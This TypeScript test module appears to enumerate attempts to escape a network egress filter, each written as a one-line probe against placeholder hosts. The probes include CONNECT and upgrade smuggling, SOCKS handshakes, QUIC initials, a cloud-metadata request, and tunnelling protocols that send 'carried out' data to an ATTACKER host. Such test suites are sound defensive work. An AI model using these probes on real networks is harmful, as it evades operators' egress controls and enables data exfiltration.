import { attempts, type Attempt } from './attempt.ts';

// Ways to make somebody else carry traffic: proxies, QUIC, tunnels, and protocols that begin like allowed ones.

const connects = {
  'to another site': 'other.test:443',
  'to an allowed site': 'allowed.test:443',
  'to an address': '203.0.113.11:443',
  'to the host': '192.0.2.2:3000',
  'to metadata': '169.254.169.254:80',
  'to a mapped address': '[::ffff:203.0.113.11]:443',
  'without a port': 'other.test',
  'to an absolute target': 'http://other.test/',
};

const carried: Record<string, string> = {
  ...Object.fromEntries(
    Object.entries(connects).map(([name, target]) => [
      `CONNECT ${name}`,
      `http(ALLOWED, 'CONNECT ${target} HTTP/1.1', 'Host: allowed.test', body=hello(server_names('other.test'))); http(OTHER, 'CONNECT ${target} HTTP/1.1', 'Host: ${target}')`,
    ]),
  ),
  ...Object.fromEntries(
    ['connect', 'Connect', 'CONNECT\\t', 'CONNECT\\x0b', 'CONNEC\\x00T', 'PRI', 'SOURCE', 'BIND', 'EVERYTHING'].map(
      method => [
        `the method ${method}`,
        `http(ALLOWED, '${method} other.test:443 HTTP/1.1', 'Host: allowed.test', body=hello(server_names('other.test')))`,
      ],
    ),
  ),
  'CONNECT by an extended method':
    "http(ALLOWED, 'GET / HTTP/1.1', 'Host: allowed.test', ':method: CONNECT', ':protocol: connect-udp')",
  'CONNECT after an answer':
    "s = connected(ALLOWED, 80, b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); s.recv(4000); s.sendall(b'CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n'); drain(s)",
  'CONNECT in a body':
    "http(ALLOWED, 'POST / HTTP/1.1', 'Host: allowed.test', 'Content-Length: 0', body=b'CONNECT other.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
  'an upgrade to a tunnel':
    "http(ALLOWED, 'GET /.well-known/masque/udp/203.0.113.11/7000/ HTTP/1.1', 'Host: allowed.test', 'Connection: Upgrade', 'Upgrade: connect-udp', 'Capsule-Protocol: ?1', body=b'\\0\\5smuggled')",
  'an upgrade to IP':
    "http(ALLOWED, 'GET /.well-known/masque/ip/*/*/ HTTP/1.1', 'Host: allowed.test', 'Connection: Upgrade', 'Upgrade: connect-ip', body=b'smuggled')",
  'an upgrade to a WebSocket, and then another request':
    "http(ALLOWED, 'GET / HTTP/1.1', 'Host: allowed.test', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==', body=b'GET /smuggled HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
  'two upgrades':
    "http(ALLOWED, 'GET / HTTP/1.1', 'Host: allowed.test', 'Connection: Upgrade', 'Upgrade: websocket, h2c', body=b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
  'headers of proxies':
    "http(ALLOWED, 'GET / HTTP/1.1', 'Host: allowed.test', 'X-Forwarded-Host: other.test', 'X-Original-URL: http://other.test/', 'X-Rewrite-URL: /smuggled', 'Proxy-Authorization: Basic eDp5', 'Max-Forwards: 5')",
  TRACE: "http(ALLOWED, 'TRACE http://other.test/ HTTP/1.1', 'Host: other.test')",
  'an answer as a request': "http(ALLOWED, 'HTTP/1.1 200 OK', 'Host: allowed.test')",
  ICAP: "http(OTHER, 'REQMOD icap://other.test/x ICAP/1.0', 'Host: allowed.test')",
  RTSP: "http(OTHER, 'OPTIONS rtsp://allowed.test/ RTSP/1.0', 'Host: allowed.test')",
  SIP: "http(OTHER, 'REGISTER sip:allowed.test SIP/2.0', 'Host: allowed.test')",
  ICY: "http(OTHER, 'SOURCE /x ICE/1.0', 'Host: allowed.test')",
  gopher: "tcp(OTHER, 80, b'/GET http://allowed.test/\\r\\n')",
  'FTP on port 80': "tcp(OTHER, 80, b'USER allowed.test\\r\\n')",
  'SMTP on port 80': "tcp(OTHER, 80, b'EHLO allowed.test\\r\\n')",
  'a PROXY line first':
    "tcp(ALLOWED, 80, b'PROXY TCP4 203.0.113.11 203.0.113.10 1 80\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')",
  'a PROXY header first':
    "tcp(ALLOWED, 443, b'\\r\\n\\r\\n\\0\\r\\nQUIT\\n\\x21\\x11\\0\\x0c' + bytes(12) + hello(server_names('other.test')))",
};

const socks: Record<string, string> = Object.fromEntries(
  [80, 443, 1080, 3128, 5353].flatMap(port => [
    [
      `SOCKS5 at port ${port} of a site`,
      `tcp(OTHER, ${port}, b'\\5\\1\\0'); tcp(ALLOWED, ${port}, b'\\5\\1\\0\\5\\1\\0\\3\\x0aother.test\\x01\\xbb')`,
    ],
    [`SOCKS4 at port ${port} of a site`, `tcp(OTHER, ${port}, b'\\4\\1\\1\\xbb\\0\\0\\0\\1x\\0other.test\\0')`],
    [`SOCKS5 at port ${port} of the proxy`, `tcp(PROXY, ${port}, b'\\5\\1\\0\\5\\1\\0\\3\\x0aother.test\\x01\\xbb')`],
  ]),
);

const initial = (version: string) =>
  `bytes([0xc3]) + bytes.fromhex('${version}') + b'\\x08' + bytes(8) + b'\\x08' + bytes(8) + b'\\0\\x44\\xd0' + bytes(1200)`;
const versions = {
  'version 1': '00000001',
  'version 2': '6b3343cf',
  'draft 29': 'ff00001d',
  'no version': '00000000',
  'a version to come': '1a2a3a4a',
  "Google's": '51303530',
};
const quic: Record<string, string> = {
  ...Object.fromEntries(
    Object.entries(versions).flatMap(([name, version]) => [
      [`QUIC of ${name}`, `udp(OTHER, 443, ${initial(version)})`],
      [`QUIC of ${name} to an allowed site`, `udp(ALLOWED, 443, ${initial(version)})`],
    ]),
  ),
  'QUIC of a known connection': 'udp(ALLOWED, 443, bytes([0x40]) + bytes(60))',
  'QUIC on port 80': `udp(ALLOWED, 80, ${initial('00000001')})`,
  'QUIC on port 8443': `udp(OTHER, 8443, ${initial('00000001')})`,
  'QUIC to the resolver': `udp(RESOLVER, 443, ${initial('00000001')})`,
  'names by QUIC': `udp(RESOLVER, 853, ${initial('00000001')}); udp(RESOLVER, 784, ${initial('00000001')})`,
  'QUIC from port 53': `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', 53)); s.settimeout(WAIT); s.sendto(${initial('00000001')}, (OTHER, 443)); print(s.recv(100))`,
  DTLS: "udp(OTHER, 443, b'\\x16\\xfe\\xfd' + bytes(60))",
  STUN: "udp(OTHER, 3478, b'\\0\\1\\0\\0\\x21\\x12\\xa4\\x42' + bytes(12)); udp(OTHER, 19302, b'\\0\\1\\0\\0\\x21\\x12\\xa4\\x42' + bytes(12))",
  'TURN by TCP': "tcp(OTHER, 443, b'\\0\\3\\0\\0\\x21\\x12\\xa4\\x42' + bytes(12))",
  'OpenVPN by UDP': "udp(ATTACKER, 1194, b'\\x38' + bytes(13))",
  IKE: 'udp(ATTACKER, 500, bytes(28)); udp(ATTACKER, 4500, bytes(32))',
  L2TP: 'udp(ATTACKER, 1701, bytes([0xc8, 2, 0, 12]) + bytes(8))',
  VXLAN: "udp(ATTACKER, 4789, b'\\x08\\0\\0\\0\\0\\0\\1\\0' + bytes(14) + ip(OTHER, datagram()))",
  Geneve: "udp(ATTACKER, 6081, b'\\0\\0\\x65\\x58\\0\\0\\1\\0' + bytes(14) + ip(OTHER, datagram()))",
  GTP: "udp(ATTACKER, 2152, b'\\x30\\xff\\0\\x08\\0\\0\\0\\1' + bytes(8))",
  'MPLS in UDP': "udp(ATTACKER, 6635, b'\\0\\1\\1\\x40' + ip(OTHER, datagram()))",
  FOU: 'udp(ATTACKER, 5555, ip(OTHER, datagram()))',
  NTP: "udp(ATTACKER, 123, bytes([0x1b]) + b'carried out' + bytes(36))",
  SNMP: "udp(ATTACKER, 161, b'0\\x26carried out')",
  TFTP: "udp(ATTACKER, 69, b'\\0\\1carried out\\0octet\\0')",
  syslog: "udp(ATTACKER, 514, b'<13>carried out')",
  AH: 'raw(ip(ATTACKER, bytes(24), protocol=51))',
  EtherIP: "raw(ip(ATTACKER, b'\\x30\\0' + bytes(14) + ip(OTHER, datagram()), protocol=97))",
  'L2TP over IP': 'raw(ip(ATTACKER, bytes(16), protocol=115))',
  'MPLS in IP': "raw(ip(ATTACKER, b'\\0\\1\\1\\x40' + ip(OTHER, datagram()), protocol=137))",
  PIM: "raw(ip(ATTACKER, b'\\x21\\0' + bytes(6) + ip(OTHER, datagram()), protocol=103))",
  RSVP: 'raw(ip(ATTACKER, bytes(16), protocol=46))',
  'RDP over IP': 'raw(ip(ATTACKER, bytes(16), protocol=27))',
  'GRE with a key': "raw(ip(ATTACKER, b'\\x20\\0\\x08\\0\\0\\0\\0\\1' + ip(OTHER, datagram()), protocol=47))",
  'minimal encapsulation': "raw(ip(ATTACKER, b'\\x11\\0' + bytes(6) + datagram(), protocol=55))",
};

export const tunnels: Attempt[] = attempts('names', 'tunnel', { ...carried, ...socks, ...quic });
